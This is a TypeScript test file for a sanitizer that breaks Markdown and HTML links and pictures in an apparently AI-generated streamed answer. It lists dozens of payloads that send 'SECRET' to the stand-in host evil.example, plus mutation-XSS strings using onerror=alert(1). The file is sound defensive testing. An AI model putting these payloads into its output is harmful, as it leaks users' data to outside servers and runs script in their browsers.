import { describe, expect, test } from 'vitest';
import { breakLinks, openLinkBreaker } from './break-links.ts';
import { citeQuote } from '#library/quotes/cite-quote.ts';
import type { Composed, Piece } from '#assistant/composing/composer.ts';

const evil = 'https://evil.example/?q=SECRET';

/** Ways to make a reader of Markdown ask another server, or to hide where a link leads. */
const attacks: [name: string, markdown: string][] = [
  ['an inline link', `[here](${evil})`],
  ['an inline link with a title', `[here](<${evil}> "title")`],
  ['an inline picture', `![x](${evil})`],
  ['a picture with brackets in its text', `![a [b] c](${evil})`],
  ['a picture in a link', `[![x](${evil})](${evil})`],
  ['a picture whose address begins on the next line', `![x](\n${evil})`],
  ['a reference', `[here][1]\n\n[1]: ${evil}`],
  ['a picture by reference', `![x][ref]\n\n[ref]: <${evil}> "title"`],
  ['a collapsed reference', `![ref][]\n\n[ref]: ${evil}`],
  ['a shortcut reference', `![ref]\n\n[ref]: ${evil}`],
  ['a reference whose address stands on the next line', `![ref]\n\n[ref]:\n  ${evil}`],
  ['a reference in a quotation', `> ![ref]\n\n> [ref]: ${evil}`],
  ['a footnote', `x[^1]\n\n[^1]: ![x](${evil})`],
  ['an autolink', `<${evil}>`],
  ['an autolink of another scheme', '<javascript:alert(1)>'],
  ['an e-mail address', '<someone@evil.example>'],
  ['an img', `<img src="${evil}">`],
  ['an img in capitals over several lines', `<IMG\nSRC=${evil}\n/>`],
  ['an img with a slash', `<img/src=${evil}>`],
  ['an a', `<a href="${evil}">here</a>`],
  ['a picture element', `<picture><source srcset="${evil}"></picture>`],
  ['an svg', `<svg><image href="${evil}"/></svg>`],
  ['a style', `<style>@import "${evil}";</style>`],
  ['a style of an element', `<p style="background:url(${evil})">x</p>`],
  ['an iframe', `<iframe src="${evil}"></iframe>`],
  ['a link element', `<link rel="prefetch" href="${evil}">`],
  ['a meta element', `<meta http-equiv="refresh" content="0;url=${evil}">`],
  ['a base element', '<base href="https://evil.example">'],
  ['a script', `<script src="${evil}"></script>`],
  ['a tag without an end', `<img src="${evil}"`],
  ['a tag that ends only', '</p><img src=x>'],
  ['a comment', `<!-- --><img src="${evil}">`],
  ['a declaration', `<!DOCTYPE html><img src="${evil}">`],
  ['an instruction', `<?xml ?><img src="${evil}">`],
  ['CDATA', `<![CDATA[x]]><img src="${evil}">`],
  ['a picture after code that does not end', `\`\`\`\n\`code ![x](${evil})`],
  ['a picture after a lone backtick', `\` ![x](${evil})`],
  ['a picture in code', `\`![x](${evil})\``],
  ['a picture in a table', `| a |\n|---|\n| ![x](${evil}) |`],
  ['an escaped bang', `\\![x](${evil})`],
  ['two bangs', `!![x](${evil})`],
  ['an embedded page', `![[${evil}]]`],
  ['a zero width space between', `![x]\u200b(${evil}) !\u200b[x]\u200b(${evil})`],
  ['a NUL between', `![x]\0(${evil}) <\0img src="${evil}">`],
  ['a soft hyphen between', `![x]\u00ad(${evil})\n\n[ref]\u00ad: ${evil}`],
];

/**
 * Markup that one parser takes for text and the next, after the first has repaired it, for an
 * element.
 */
const mutating: [name: string, markdown: string][] = [
  ['a title that ends its parent', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
  [
    'a comment in a style',
    '<math><mtext><style><!--</style><img title="--><img src=x onerror=alert(1)>">',
  ],
  [
    'a glyph in a table',
    '<table><mglyph><style><math></style><img src onerror=alert(1)></mglyph></table>',
  ],
  [
    'forms in each other',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  ],
  ['a paragraph in a drawing', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'],
  ['a tag in a tag', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['two opening brackets', '<<img src=x onerror=alert(1)>'],
  ['a zero width space before a tag name', '<\u200bimg src=x onerror=alert(1)>'],
  ['a picture in the text of a link', '[<img src=x onerror=alert(1)>](x)'],
  ['an address that is a program', '[x](java\nscript:alert(1)) <javascript&colon;alert(1)>'],
  ['a fence that closes in its own name', '```x</code><img src=x onerror=alert(1)>\n```'],
];

const forbidden = [/!\[/u, /\]\(/u, /\]:/u, /<[\p{L}\p{N}/!?]/u];

function expectBroken(text: string): void {
  const seen = text.replaceAll(/[\0\u00ad\u200b]/gu, '');
  for (const pattern of forbidden) expect(seen).not.toMatch(pattern);
}

describe('S18: links and pictures', () => {
  test.each(attacks)('%s becomes plain text with a readable address', (_, markdown) => {
    const broken = openLinkBreaker()(markdown);
    expectBroken(broken);
    expect(broken.replaceAll(' ', '')).toBe(markdown.replaceAll(' ', ''));
  });

  test.each(attacks)('%s gives the same text however it is cut into deltas', (_, markdown) => {
    const whole = openLinkBreaker()(markdown);
    for (let size = 1; size <= 5; size += 1) {
      const breakText = openLinkBreaker();
      const characters = [...markdown];
      const parts = Array.from({ length: Math.ceil(characters.length / size) }, (__, at) =>
        breakText(characters.slice(at * size, (at + 1) * size).join('')),
      );
      expect(parts.join('')).toBe(whole);
    }
  });

  test.each(mutating)(
    'S17: markup that parsers repair (%s) leaves no tag, link or picture',
    (_, markdown) => {
      expect(() => expectBroken(markdown)).toThrow();
      const broken = openLinkBreaker()(markdown);
      expectBroken(broken);
      expectBroken(openLinkBreaker()(broken));
      expect(broken.replaceAll(' ', '')).toBe(markdown.replaceAll(' ', ''));
    },
  );

  test('breaking a text a second time changes nothing', () => {
    for (const [, markdown] of attacks) {
      const broken = openLinkBreaker()(markdown);
      expect(openLinkBreaker()(broken)).toBe(broken);
    }
  });

  test.each([
    'Nine in the morning [1][2]. Really! [3]',
    '**Bold**, _slanted_, `code`, a – b; x <= y, 3 < 4, a -> b, 😀 \u{1F468}\u200D\u{1F469}',
    '# Title\n\n1. one\n2. two\n\n- [ ] open\n- [x] done\n\n> quoted\n\n| a | b |\n|---|:-:|\n| 1 | 2 |',
    'See https://example.com/a?b=c (as text).',
    'مرحبا [1] 大阪 [2]。',
  ])('ordinary text is left unchanged: %j', (text) => {
    expect(openLinkBreaker()(text)).toBe(text);
  });
});

describe('an answer', () => {
  async function* made(...pieces: Piece[]): AsyncGenerator<Piece, Composed> {
    yield* pieces;
    return { corrections: [], certainty: 'answered' };
  }

  test('has its links broken even across deltas, and its citations unchanged', async () => {
    const quote = `![x](${evil})`;
    const source = { documentId: 'd', name: 'd.md', pageNumber: 1, hasPages: false };
    const citation = citeQuote(source, quote, quote);
    const given: Piece[] = [
      { kind: 'delta', text: '!' },
      { kind: 'citation', citation },
      { kind: 'delta', text: '[x]' },
      { kind: 'delta', text: `(${evil})` },
    ];
    const pieces = breakLinks(made(...given));
    const seen: Piece[] = [];
    for (;;) {
      const next = await pieces.next();
      if (next.done === true) {
        expect(next.value).toEqual({ corrections: [], certainty: 'answered' });
        break;
      }
      seen.push(next.value);
    }
    const text = seen.map((piece) => (piece.kind === 'delta' ? piece.text : '')).join('');
    expect(text).toBe(`! [x] (${evil})`);
    expect(seen[1]).toEqual({ kind: 'citation', citation });
  });
});
